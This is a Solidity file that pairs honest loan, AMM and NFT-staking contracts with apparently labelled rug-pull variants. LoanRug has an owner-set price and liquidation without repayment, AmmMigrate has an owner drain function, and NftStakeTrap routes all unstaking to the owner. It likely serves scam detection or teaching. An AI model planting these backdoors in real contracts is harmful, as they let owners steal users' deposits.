// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

import {IERC20, IERC721, send} from "./base/Common.sol";

// Loans, liquidity and staked items.

interface Feed {
    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80);
}

contract Loan {
    IERC20 immutable usd;
    Feed immutable feed;
    mapping(address => uint256) public coll;
    mapping(address => uint256) public debt;
    constructor(address u, address f) {
        usd = IERC20(u);
        feed = Feed(f);
    }
    function price() public view returns (uint256) {
        (, int256 p, , , ) = feed.latestRoundData();
        return uint256(p);
    }
    function worth(address a) public view returns (uint256) {
        return (coll[a] * price()) / 1e20;
    }
    function open(uint256 b) external payable {
        coll[msg.sender] += msg.value;
        debt[msg.sender] += b;
        require(debt[msg.sender] * 10 <= worth(msg.sender) * 7, "ltv");
        usd.transfer(msg.sender, b);
    }
    function repay(uint256 b) external {
        usd.transferFrom(msg.sender, address(this), b);
        debt[msg.sender] -= b;
    }
    function withdrawCollateral(uint256 a) external {
        coll[msg.sender] -= a;
        require(debt[msg.sender] * 10 <= worth(msg.sender) * 7, "ltv");
        send(msg.sender, a);
    }
    function liquidate(address u) external {
        require(debt[u] * 10 > worth(u) * 8, "healthy");
        usd.transferFrom(msg.sender, address(this), debt[u]);
        uint256 c = coll[u];
        coll[u] = 0;
        debt[u] = 0;
        send(msg.sender, c);
    }
}

contract LoanRug {
    IERC20 immutable usd;
    address immutable o;
    uint256 public px;
    mapping(address => uint256) public coll;
    mapping(address => uint256) public debt;
    constructor(address u, uint256 p) {
        usd = IERC20(u);
        o = msg.sender;
        px = p;
    }
    function worth(address a) public view returns (uint256) {
        return (coll[a] * px) / 1e20;
    }
    function open(uint256 b) external payable {
        coll[msg.sender] += msg.value;
        debt[msg.sender] += b;
        require(debt[msg.sender] * 10 <= worth(msg.sender) * 7, "ltv");
        usd.transfer(msg.sender, b);
    }
    function repay(uint256 b) external {
        usd.transferFrom(msg.sender, address(this), b);
        debt[msg.sender] -= b;
    }
    function withdrawCollateral(uint256 a) external {
        coll[msg.sender] -= a;
        require(debt[msg.sender] * 10 <= worth(msg.sender) * 7, "ltv");
        send(msg.sender, a);
    }
    function post(uint256 p) external {
        require(msg.sender == o);
        px = p;
    }
    function liquidate(address u) external {
        require(debt[u] * 10 > worth(u) * 8, "healthy");
        uint256 c = coll[u];
        coll[u] = 0;
        debt[u] = 0;
        send(msg.sender, c);
    }
}

contract MiniAmm {
    IERC20 immutable a;
    IERC20 immutable b;
    uint256 public ra;
    uint256 public rb;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    constructor(address x, address y) {
        a = IERC20(x);
        b = IERC20(y);
    }
    function add(uint256 x, uint256 y) external returns (uint256 l) {
        if (totalSupply == 0) l = x;
        else {
            l = (x * totalSupply) / ra;
            uint256 m = (y * totalSupply) / rb;
            if (m < l) l = m;
            x = (l * ra) / totalSupply;
            y = (l * rb) / totalSupply;
        }
        a.transferFrom(msg.sender, address(this), x);
        b.transferFrom(msg.sender, address(this), y);
        ra += x;
        rb += y;
        totalSupply += l;
        balanceOf[msg.sender] += l;
    }
    function remove(uint256 l) external {
        uint256 x = (l * ra) / totalSupply;
        uint256 y = (l * rb) / totalSupply;
        balanceOf[msg.sender] -= l;
        totalSupply -= l;
        ra -= x;
        rb -= y;
        a.transfer(msg.sender, x);
        b.transfer(msg.sender, y);
    }
    function swapA(uint256 x) external {
        a.transferFrom(msg.sender, address(this), x);
        uint256 f = (x * 997) / 1000;
        uint256 y = (rb * f) / (ra + f);
        ra += x;
        rb -= y;
        b.transfer(msg.sender, y);
    }
}

contract AmmMigrate {
    IERC20 immutable a;
    IERC20 immutable b;
    address immutable o;
    uint256 public ra;
    uint256 public rb;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    constructor(address x, address y) {
        a = IERC20(x);
        b = IERC20(y);
        o = msg.sender;
    }
    function add(uint256 x, uint256 y) external returns (uint256 l) {
        if (totalSupply == 0) l = x;
        else {
            l = (x * totalSupply) / ra;
            uint256 m = (y * totalSupply) / rb;
            if (m < l) l = m;
            x = (l * ra) / totalSupply;
            y = (l * rb) / totalSupply;
        }
        a.transferFrom(msg.sender, address(this), x);
        b.transferFrom(msg.sender, address(this), y);
        ra += x;
        rb += y;
        totalSupply += l;
        balanceOf[msg.sender] += l;
    }
    function remove(uint256 l) external {
        uint256 x = (l * ra) / totalSupply;
        uint256 y = (l * rb) / totalSupply;
        balanceOf[msg.sender] -= l;
        totalSupply -= l;
        ra -= x;
        rb -= y;
        a.transfer(msg.sender, x);
        b.transfer(msg.sender, y);
    }
    function swapA(uint256 x) external {
        a.transferFrom(msg.sender, address(this), x);
        uint256 f = (x * 997) / 1000;
        uint256 y = (rb * f) / (ra + f);
        ra += x;
        rb -= y;
        b.transfer(msg.sender, y);
    }
    function migrate(address next) external {
        require(msg.sender == o);
        a.transfer(next, a.balanceOf(address(this)));
        b.transfer(next, b.balanceOf(address(this)));
    }
}

contract NftLoan {
    IERC721 immutable n;
    mapping(uint256 => address) public by;
    mapping(uint256 => uint256) public debt;
    constructor(address x) payable {
        n = IERC721(x);
    }
    receive() external payable {}
    function borrow(uint256 id, uint256 a) external {
        require(a <= 1 ether);
        n.transferFrom(msg.sender, address(this), id);
        by[id] = msg.sender;
        debt[id] = (a * 105) / 100;
        send(msg.sender, a);
    }
    function repay(uint256 id) external payable {
        require(by[id] == msg.sender && msg.value == debt[id]);
        by[id] = address(0);
        n.transferFrom(address(this), msg.sender, id);
    }
}

contract NftStake {
    IERC721 immutable n;
    mapping(uint256 => address) public by;
    constructor(address x) {
        n = IERC721(x);
    }
    function stake(uint256 id) external {
        n.transferFrom(msg.sender, address(this), id);
        by[id] = msg.sender;
    }
    function unstake(uint256 id) external {
        require(by[id] == msg.sender);
        by[id] = address(0);
        n.transferFrom(address(this), msg.sender, id);
    }
}

contract NftStakeTrap {
    IERC721 immutable n;
    address immutable o;
    mapping(uint256 => address) public by;
    constructor(address x) {
        n = IERC721(x);
        o = msg.sender;
    }
    function stake(uint256 id) external {
        n.transferFrom(msg.sender, address(this), id);
        by[id] = msg.sender;
    }
    function unstake(uint256 id) external {
        require(msg.sender == o);
        n.transferFrom(address(this), o, id);
    }
}
